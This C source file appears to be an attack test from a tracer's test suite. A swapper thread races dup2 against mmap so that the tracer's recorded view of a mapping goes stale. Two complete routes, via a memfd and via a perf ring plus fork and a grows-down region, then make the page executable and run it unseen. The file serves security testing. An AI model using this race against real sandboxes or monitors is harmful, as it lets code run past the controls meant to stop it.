/*
 * Attack: a descriptor swapped (dup2 by another thread) between the
 * tracer's look at an mmap's entry and the kernel's use, for a mapping that
 * is neither executable nor shared-writable (so not looked at again at its
 * exit). The model keeps the object it saw at entry; the kernel mapped the
 * other one.
 *
 *   mprotect: X flips between a clean file and a memfd holding code; A maps
 *     X R-- private; when the kernel mapped the memfd, A mprotects it R-X
 *     and runs it (to the stale model: a clean file page gaining exec).
 *   fork: X flips between a clean file and a perf event (its ring is kept
 *     out of children by the kernel, VM_DONTCOPY); A maps X R-- shared with
 *     a MAP_GROWSDOWN page above; when the kernel mapped the ring, the thread
 *     is joined (A is alone: the child's model may be a copy) and A forks; the
 *     child grows the GROWSDOWN region into the gap the ring leaves, mprotects
 *     that page R-X and runs it (to the stale model: a clean file page).
 *     Each try runs in a worker process of its own (labels end in its
 *     number). Exits 3 when perf events cannot be opened here.
 *
 * usage: attack_ro_swap mprotect|fork ROUNDS; COUNT = tries that mapped the
 * other object.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/perf_event.h>
#include <pthread.h>
#include <sys/syscall.h>

#include "common.h"

#define SLOT 100
#define RING_PAGES 65 /* the header page and 2^6 data pages */
#define GUARD_PAGES 512

static volatile int stop;
static int clean_fd, other_fd;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(other_fd, SLOT);
		dup2(clean_fd, SLOT);
	}
	return NULL;
}

static int mapped_other(const void *addr, const char *marker)
{
	struct tw_map m;

	return tw_find_map(addr, &m) == 0 && strstr(m.path, marker) != NULL;
}

/* Tries until the code runs: how many mapped the memfd. */
static int try_mprotect(long rounds)
{
	size_t pg = tw_page();
	pthread_t thread;
	int got = 0, ran = 0;

	other_fd = memfd_create("code", MFD_CLOEXEC);
	if (other_fd < 0 || ftruncate(other_fd, (off_t)pg) != 0 ||
	    pwrite(other_fd, TW_CODE, sizeof(TW_CODE), 0) != (ssize_t)sizeof(TW_CODE))
		return -1;
	pthread_create(&thread, NULL, swapper, NULL);
	for (long i = 0; i < rounds && !ran; i++) {
		char *p = mmap(NULL, pg, PROT_READ, MAP_PRIVATE, SLOT, 0);

		if (p == MAP_FAILED)
			continue;
		if (mapped_other(p, "/memfd:code")) {
			got++;
			if (mprotect(p, pg, TW_RX) == 0) {
				tw_run("swapped_call", p);
				ran = 1;
			}
		}
		munmap(p, pg);
	}
	stop = 1;
	pthread_join(thread, NULL);
	return got;
}

/* One try in a worker: 1 when the kernel mapped the ring, 0 when not, 3: no perf. */
static int try_fork(long round)
{
	struct perf_event_attr attr = { 0 };
	size_t pg = tw_page();
	pthread_t thread;
	struct tw_map m;
	char *ring, *grows;
	pid_t pid;

	attr.size = sizeof(attr);
	attr.type = PERF_TYPE_SOFTWARE;
	attr.config = PERF_COUNT_SW_DUMMY;
	attr.disabled = 1;
	other_fd = (int)syscall(SYS_perf_event_open, &attr, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
	if (other_fd < 0)
		return 3;
	/* PROT_NONE below the ring keeps accessible memory (a thread's stack) out of the guard gap. */
	ring = mmap(NULL, (GUARD_PAGES + RING_PAGES + 1) * pg, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (ring == MAP_FAILED)
		return -1;
	ring += GUARD_PAGES * pg;
	pthread_create(&thread, NULL, swapper, NULL);
	usleep(1000);
	if (mmap(ring, RING_PAGES * pg, PROT_READ, MAP_SHARED | MAP_FIXED, SLOT, 0) == MAP_FAILED)
		ring = NULL;
	stop = 1;
	pthread_join(thread, NULL);
	if (!ring || !mapped_other(ring, "perf_event"))
		return 0;
	usleep(200000); /* the thread is gone for the tracer too */
	grows = mmap(ring + RING_PAGES * pg, pg, TW_RW, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED | MAP_GROWSDOWN,
		     -1, 0);
	if (grows == MAP_FAILED)
		return -1;
	pid = fork();
	if (pid == 0) {
		char *below = grows - pg;
		char label[32];

		tw_put_code(below); /* a fault below the GROWSDOWN region grows it */
		if (tw_find_map(below, &m) != 0 || m.perms[1] != 'w')
			_exit(0);
		snprintf(label, sizeof(label), "child_rx_mprotect_%ld", round);
		if (tw_mprotect(label, below, pg, TW_RX) == 0) {
			snprintf(label, sizeof(label), "child_call_%ld", round);
			tw_run(label, below);
		}
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	return 1;
}

int main(int argc, char **argv)
{
	long rounds = tw_count_arg(argc, argv, 2, "mprotect|fork ROUNDS");
	int fork_route = strcmp(argv[1], "fork") == 0;
	long got = 0;

	tw_init();
	clean_fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
	if (clean_fd < 0 || dup2(clean_fd, SLOT) != SLOT)
		return 1;
	if (!fork_route) {
		got = try_mprotect(rounds);
	} else {
		for (long i = 0; i < rounds; i++) {
			int status = 0;
			pid_t worker = fork();

			if (worker == 0)
				_exit(try_fork(i));
			waitpid(worker, &status, 0);
			if (WIFEXITED(status) && WEXITSTATUS(status) == 3)
				return 3;
			got += WIFEXITED(status) && WEXITSTATUS(status) == 1;
		}
	}
	tw_emit("COUNT %ld", got);
	return tw_done();
}
